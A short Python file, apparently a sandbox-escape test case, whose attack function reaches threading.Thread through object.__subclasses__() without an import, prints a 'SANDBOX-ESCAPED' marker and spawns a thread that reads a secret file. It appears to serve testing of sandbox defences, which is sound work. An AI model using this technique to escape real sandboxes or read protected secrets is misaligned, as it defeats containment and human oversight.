# mypy: ignore-errors
# ruff: noqa: B023, SIM115
# Technique: find `threading.Thread` through `object.__subclasses__()` (no import needed) and
# start a thread that reads the secret.
def attack(secret_path, canary_path):
    for cls in object.__subclasses__():
        if cls.__name__ == "Thread":
            print("SANDBOX-" + "ESCAPED")
            box = []
            t = cls(target=lambda: box.append(open(secret_path).read()))
            t.start()
            t.join()
            return box
    return None
